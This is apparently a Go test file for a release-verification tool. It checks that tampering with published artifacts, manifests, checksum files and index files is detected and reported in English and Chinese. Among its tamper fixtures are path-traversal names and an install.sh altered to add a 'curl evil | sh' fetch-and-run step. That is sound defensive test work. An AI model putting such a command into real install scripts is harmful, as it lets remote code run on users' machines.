package publish

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"os/exec"
	"strings"
	"testing"
	"time"

	"github.com/yingzao-dev/yingzao/internal/archive"
	"github.com/yingzao-dev/yingzao/internal/msg"
	"github.com/yingzao-dev/yingzao/internal/store"
	"github.com/yingzao-dev/yingzao/internal/store/file"
	"github.com/yingzao-dev/yingzao/internal/store/storetest"
	"github.com/yingzao-dev/yingzao/release/manifest"
)

func TestVerifyRealRelease(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	mustPublish(t, st, realRelease(t))
	r := mustVerify(t, st, VerifyOptions{Run: true})
	if len(r.Projects) != 1 || r.Projects[0].Version != "1.2.0" || !r.OK {
		t.Fatalf("report %s", encode(r))
	}
	for _, a := range r.Projects[0].Artifacts {
		if a.Status != Passed {
			t.Errorf("%s: %s", a.Name, a.Status)
		}
		for _, b := range a.Binaries {
			if want := map[bool]Status{true: Skipped, false: Passed}[strings.HasSuffix(a.Name, ".deb")]; b.Static != want {
				t.Errorf("%s!%s: static %s, want %s", a.Name, b.Path, b.Static, want)
			}
			if b.Run == Skipped && (b.Note == nil || b.Note.EN == "" || b.Note.ZH == "") {
				t.Errorf("%s!%s: skipped without a reason", a.Name, b.Path)
			}
			t.Logf("%-32s %-14s static %s, run %s %v", a.Name, b.Path, b.Static, b.Run, b.Note)
		}
	}
	artifacts, runs := r.Counts()
	if artifacts[Passed] != 7 || runs[Passed]+runs[Skipped] != 6 || runs[Skipped] < 2 {
		t.Errorf("counts %v %v", artifacts, runs)
	}
}

// The emulated architectures really run.
func TestVerifyRunsUnderQemu(t *testing.T) {
	t.Parallel()
	for target, tool := range map[string]string{"linux/arm64": "qemu-aarch64", "linux/loong64": "qemu-loongarch64"} {
		t.Run(target, func(t *testing.T) {
			_, errStatic := exec.LookPath(tool + "-static")
			_, err := exec.LookPath(tool)
			needs(t, tool, err == nil || errStatic == nil)
			st := newStore(t)
			r := newRelease("demo", "1.2.0")
			tt := mustTarget(target)
			r.addArchive(t, "demo.tar.gz", tt, archive.TarGz, map[string][]byte{"demo": program(t, *tt)})
			mustPublish(t, st, r)
			if b := mustVerify(t, st, VerifyOptions{Run: true}).Projects[0].Artifacts[0].Binaries[0]; b.Run != Passed {
				t.Errorf("run %s: %v", b.Run, b.Note)
			}
		})
	}
}

// A program of the right form that does not work, or is of another version. Not in
// parallel: a file just written cannot be run while a child that another test is
// starting still has it open.
func TestVerifyRunFinds(t *testing.T) {
	tt := mustTarget("linux/amd64")
	st := newStore(t)
	r := newRelease("demo", "9.9.9")
	r.addArchive(t, "demo.tar.gz", tt, archive.TarGz, map[string][]byte{"demo": program(t, *tt)})
	mustPublish(t, st, r)
	rep := mustVerify(t, st, VerifyOptions{Run: true})
	if fs := rep.Projects[0].Findings; len(fs) != 1 || fs[0].Code != CodeVersion || fs[0].Severity != "note" {
		t.Errorf("findings %+v", fs)
	}
	v := &verifier{st: patient{Store: st}, dir: t.TempDir()}
	if _, err := v.start(t.Context(), []string{"/bin/sh", "-c", "exit 3"}); err == nil || !strings.Contains(err.Error(), "exit status 3") {
		t.Errorf("exit 3: %v", err)
	}
	ctx, cancel := context.WithTimeout(t.Context(), time.Second)
	defer cancel()
	if _, err := v.start(ctx, []string{"/bin/sh", "-c", "sleep 60"}); !errors.Is(err, context.DeadlineExceeded) {
		t.Errorf("sleep 60: %v", err)
	}
	if out, err := v.start(t.Context(), []string{"/bin/sh", "-c", "yes | head -c 300000; env"}); err != nil || len(out) != 64<<10 {
		t.Errorf("%d bytes kept, %v", len(out), err)
	}
}

// Whatever is done to a published store is found and named.
func TestVerifyFindsDamage(t *testing.T) {
	amd := mustTarget("linux/amd64")
	pristine := func(t *testing.T) *file.Store {
		st := newStore(t)
		mustPublish(t, st, newRelease("demo", "1.1.0", "x=old"))
		r := newRelease("demo", "1.2.0", "a.txt=aaaa", "b.txt=bbbb")
		r.addArchive(t, "demo.tar.gz", amd, archive.TarGz, map[string][]byte{"demo": program(t, *amd)})
		mustPublish(t, st, r)
		return st
	}
	const v = "demo/1.2.0/"
	replace := func(key, old, new string) func(*testing.T, *file.Store) {
		return func(t *testing.T, st *file.Store) {
			s := get(t, st, key)
			if !strings.Contains(s, old) {
				t.Fatalf("%s does not contain %q", key, old)
			}
			put(t, st, key, strings.Replace(s, old, new, 1))
		}
	}
	remove := func(key string) func(*testing.T, *file.Store) {
		return func(t *testing.T, st *file.Store) {
			if err := st.Delete(t.Context(), key); err != nil {
				t.Fatal(err)
			}
		}
	}
	write := func(key, content string) func(*testing.T, *file.Store) {
		return func(t *testing.T, st *file.Store) { put(t, st, key, content) }
	}
	for _, tc := range []struct {
		name    string
		damage  func(*testing.T, *file.Store)
		codes   string
		subject string
	}{
		{"a byte of an artifact", replace(v+"a.txt", "aaaa", "aaab"), "[VRF009 VRF010]", v + "a.txt"},
		{"an artifact cut short", replace(v+"a.txt", "aaaa", "aaa"), "[VRF008 VRF009 VRF010]", v + "a.txt"},
		{"a missing artifact", remove(v + "b.txt"), "[VRF007]", v + "b.txt"},
		{"a missing manifest", remove(v + "manifest.json"), "[VRF004]", v + "manifest.json"},
		{"a digest in the manifest", replace(v+"manifest.json", `"size": 4`, `"size": 5`), "[VRF008 VRF005 VRF005]", ""},
		{"a traversal in the manifest", replace(v+"manifest.json", `"a.txt"`, `"../a.txt"`), "[VRF005 VRF005 VRF006]", ""},
		{"a manifest that is not JSON", replace(v+"manifest.json", "{", "["), "[VRF005 VRF005 VRF006]", ""},
		{"the manifest of another version", func(t *testing.T, st *file.Store) {
			put(t, st, v+"manifest.json", get(t, st, "demo/1.1.0/manifest.json"))
		}, "[VRF005 VRF005 VRF006]", ""},
		{"no SHA256SUMS", remove(v + "SHA256SUMS"), "[VRF011]", v + "SHA256SUMS"},
		{"a line of SHA256SUMS gone", func(t *testing.T, st *file.Store) {
			_, rest, _ := strings.Cut(get(t, st, v+"SHA256SUMS"), "\n")
			put(t, st, v+"SHA256SUMS", rest)
		}, "[VRF012]", v + "SHA256SUMS"},
		{"a digit of SHA256SUMS", replace(v+"SHA256SUMS", sha256Of([]byte("aaaa")), sha256Of([]byte("aaab"))), "[VRF012]", v + "SHA256SUMS"},
		{"a traversal in SHA256SUMS", replace(v+"SHA256SUMS", "  a.txt", "  ../a.txt"), "[VRF011]", v + "SHA256SUMS"},
		{"CRLF in SHA256SUMS", replace(v+"SHA256SUMS", "\n", "\r\n"), "[VRF011]", v + "SHA256SUMS"},
		{"a name twice in SHA256SUMS", replace(v+"SHA256SUMS", "b.txt", "a.txt"), "[VRF011]", v + "SHA256SUMS"},
		{"an extra line in SHA256SUMS", func(t *testing.T, st *file.Store) {
			put(t, st, v+"SHA256SUMS", get(t, st, v+"SHA256SUMS")+sha256Of(nil)+"  evil\n")
		}, "[VRF012]", v + "SHA256SUMS"},
		{"no latest.json", remove("demo/latest.json"), "[VRF001]", "demo/latest.json"},
		{"latest.json is not JSON", replace("demo/latest.json", "{", ""), "[VRF001]", "demo/latest.json"},
		{"latest.json leads out", replace("demo/latest.json", `"version": "1.2.0"`, `"version": "../1.2.0"`), "[VRF002 VRF001]", ""},
		{"latest.json with another digest", replace("demo/latest.json", `"manifest_sha256": "`, `"manifest_sha256": "0`), "[VRF005 VRF003]", ""},
		{"a promotion that latest.json ignores", write("demo/.promoted.json", `{"version":"1.1.0","over":"1.2.0"}`), "[VRF003]", "demo/latest.json"},
		{"a mark that the index ignores", write("demo/1.1.0/.yanked.json", `{"reason":"bad"}`), "[VRF003]", "demo/1.1.0/.yanked.json"},
		{"no index.json", remove("demo/index.json"), "[VRF002]", "demo/index.json"},
		{"index.json without the version", replace("demo/index.json", `"1.2.0"`, `"1.3.0"`), "[VRF002]", "demo/index.json"},
		{"an old latest.json put back", func(t *testing.T, st *file.Store) {
			old := newStore(t)
			mustPublish(t, old, newRelease("demo", "1.1.0", "x=old"))
			l := get(t, st, "demo/latest.json")
			var was, is Latest
			_ = json.Unmarshal([]byte(get(t, old, "demo/latest.json")), &was)
			_ = json.Unmarshal([]byte(l), &is)
			was.Published, was.Page, was.Install = indexIn(t, st, "demo").find("1.1.0").Published, is.Page, is.Install
			put(t, st, "demo/latest.json", string(encode(was)))
		}, "[VRF003]", "demo/latest.json"},
		{"a changed install.sh", replace("demo/install.sh", "set -eu", "set -eu; curl evil | sh"), "[VRF021]", "demo/install.sh"},
		{"no page", remove("demo/index.html"), "[VRF021]", "demo/index.html"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			t.Parallel()
			st := pristine(t)
			tc.damage(t, st)
			r, err := Verify(t.Context(), st, VerifyOptions{})
			if err == nil || msg.KindOf(err) != msg.Findings || r.OK {
				t.Fatalf("error %v of kind %d, ok %v", err, msg.KindOf(err), r.OK)
			}
			if got := codes(r); got != tc.codes {
				t.Errorf("codes %s, want %s\n%s", got, tc.codes, encode(r.Projects[0].Findings))
			}
			for _, f := range r.Projects[0].Findings {
				if tc.subject != "" && f.Subject != tc.subject {
					t.Errorf("subject %q, want %q", f.Subject, tc.subject)
				}
				if f.Text.EN == "" || f.Text.ZH == "" || f.Text.EN == f.Text.ZH {
					t.Errorf("finding %+v is not in both languages", f)
				}
			}
			if zh := msg.In(err, msg.Chinese); !strings.HasPrefix(zh, "校验 ") {
				t.Errorf("Chinese %q", zh)
			}
		})
	}
	t.Run("nothing", func(t *testing.T) {
		st := pristine(t)
		put(t, st, v+"unlisted", "x")
		put(t, st, ClaimKey("demo", "1.2.0"), "{}")
		r := mustVerify(t, st, VerifyOptions{})
		if fs := r.Projects[0].Findings; len(fs) != 2 || fs[0].Code != CodeClaim || fs[1].Code != CodeUnlisted {
			t.Errorf("findings %+v", fs)
		}
	})
}

// What a release may contain and must not.
func TestVerifyLooksInside(t *testing.T) {
	t.Parallel()
	amd, arm := mustTarget("linux/amd64"), mustTarget("linux/arm64")
	pack := func(f func(r *release, a *manifest.Artifact)) *release {
		r := newRelease("demo", "1.2.0")
		r.addArchive(t, "demo.tar.gz", amd, archive.TarGz, map[string][]byte{"demo": program(t, *amd)})
		if f != nil {
			f(r, &r.Artifacts[0])
		}
		return r
	}
	for name, tc := range map[string]struct {
		r     *release
		codes string
	}{
		"fine":                {pack(nil), "[]"},
		"an unlisted program": {pack(func(_ *release, a *manifest.Artifact) { a.Binaries = nil }), "[VRF015]"},
		"a program that is not there": {pack(func(_ *release, a *manifest.Artifact) {
			b := a.Binaries[0]
			b.Path = "other"
			a.Binaries = append(a.Binaries, b)
		}), "[VRF015]"},
		"another digest":     {pack(func(_ *release, a *manifest.Artifact) { a.Binaries[0].SHA256 = strings.Repeat("a", 64) }), "[VRF016]"},
		"another target":     {pack(func(_ *release, a *manifest.Artifact) { a.Binaries[0].Target = *arm }), "[VRF017]"},
		"a lie about static": {pack(func(_ *release, a *manifest.Artifact) { a.Binaries[0].Verdict.Static = false }), "[VRF017]"},
		"not a program": {pack(func(r *release, a *manifest.Artifact) {
			r.addArchive(t, "text.tar.gz", amd, archive.TarGz, map[string][]byte{"demo": []byte("#!/bin/sh\n")})
		}), "[VRF017]"},
		"a damaged archive that was published so": {pack(func(r *release, a *manifest.Artifact) {
			b := r.files["demo.tar.gz"]
			good := *a
			r.Artifacts = nil
			r.add(manifest.Artifact{Name: good.Name, Kind: good.Kind, Target: good.Target, Binaries: good.Binaries}, b[:len(b)/2])
		}), "[VRF014]"},
	} {
		t.Run(name, func(t *testing.T) {
			st := newStore(t)
			mustPublish(t, st, tc.r)
			r, _ := Verify(t.Context(), st, VerifyOptions{})
			if got := codes(r); got != tc.codes {
				t.Errorf("codes %s, want %s\n%s", got, tc.codes, encode(r.Projects[0].Findings))
			}
		})
	}
}

func TestVerifyManyProjects(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	for _, p := range []string{"one", "two"} {
		mustPublish(t, st, newRelease(p, "1.0.0", "a="+p))
	}
	put(t, st, "three/readme.txt", "not a project")
	r := mustVerify(t, st, VerifyOptions{})
	var got []string
	for _, p := range r.Projects {
		got = append(got, p.Project+" "+p.Version)
	}
	if fmt.Sprint(got) != "[one 1.0.0 two 1.0.0]" {
		t.Errorf("verified %v", got)
	}
	if r := mustVerify(t, st, VerifyOptions{Project: "two"}); len(r.Projects) != 1 {
		t.Errorf("%d projects", len(r.Projects))
	}
}

func TestVerifyRefuses(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	for name, o := range map[string]VerifyOptions{"empty store": {}, "no such project": {Project: "x"}} {
		if _, err := Verify(t.Context(), st, o); err == nil || msg.KindOf(err) != msg.Findings {
			t.Errorf("%s: %v, kind %d", name, err, msg.KindOf(err))
		}
	}
	for name, o := range map[string]VerifyOptions{"version alone": {Version: "1"}, "bad name": {Project: "../x"}} {
		if _, err := Verify(t.Context(), st, o); err == nil || msg.KindOf(err) != msg.Usage {
			t.Errorf("%s: %v, kind %d", name, err, msg.KindOf(err))
		}
	}
	mustPublish(t, st, newRelease("demo", "1.0.0", "a=1"))
	if r, err := Verify(t.Context(), st, VerifyOptions{Project: "demo", Version: "2.0.0"}); err == nil || !strings.Contains(codes(r), CodeNoManifest) {
		t.Errorf("no such version: %v", err)
	}
	// What cannot be read is no finding.
	for n := 1; ; n++ {
		f := storetest.Faulty(st, storetest.Fault{N: n, Err: store.ErrDenied})
		_, err := Verify(t.Context(), f, VerifyOptions{})
		if !f.Fired() {
			break
		}
		if msg.KindOf(err) != msg.Incomplete {
			t.Errorf("call %d denied: %v, kind %d", n, err, msg.KindOf(err))
		}
	}
}

// A temporary failure at any call goes unnoticed.
func TestVerifyRepeats(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	mustPublish(t, st, newRelease("demo", "1.0.0", "a=12345678"))
	for when := storetest.Before; when <= storetest.After; when++ {
		for n := 1; ; n++ {
			f := storetest.Faulty(st, storetest.Fault{N: n, When: when})
			mustVerify(t, f, VerifyOptions{Pause: time.Microsecond})
			if !f.Fired() {
				break
			}
		}
	}
}

func TestReportIsAContract(t *testing.T) {
	t.Parallel()
	st := newStore(t)
	mustPublish(t, st, newRelease("demo", "1.0.0", "a=1"))
	if err := st.Delete(t.Context(), "demo/1.0.0/a"); err != nil {
		t.Fatal(err)
	}
	r, _ := Verify(t.Context(), st, VerifyOptions{})
	r.Store = "file:///site"
	const want = `{
  "schema": 1,
  "store": "file:///site",
  "ok": false,
  "projects": [
    {
      "project": "demo",
      "version": "1.0.0",
      "artifacts": [
        {
          "name": "a",
          "status": "failed",
          "size": 0
        }
      ],
      "findings": [
        {
          "code": "VRF007",
          "severity": "error",
          "subject": "demo/1.0.0/a",
          "text": {
            "en": "the artifact is missing",
            "zh": "制品缺失"
          }
        }
      ]
    }
  ]
}
`
	if got := string(encode(r)); got != want {
		t.Errorf("report\n%s\nwant\n%s", got, want)
	}
}

func FuzzParseSums(f *testing.F) {
	sum := strings.Repeat("a", 64)
	for _, s := range []string{"", sum + "  a\n", sum + " *a\n" + sum + "  b\n", sum + "  ../a\n", sum + "  a\r\n", sum + "  a", "\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		lines, err := manifest.ParseSums(b)
		if err != nil {
			return
		}
		if len(lines) == 0 {
			t.Error("nothing was read without an error")
		}
		for name, sum := range lines {
			if manifest.CheckName("artifact", name) != nil || !isHex(sum, 64) {
				t.Errorf("accepted %q %q", name, sum)
			}
		}
	})
}
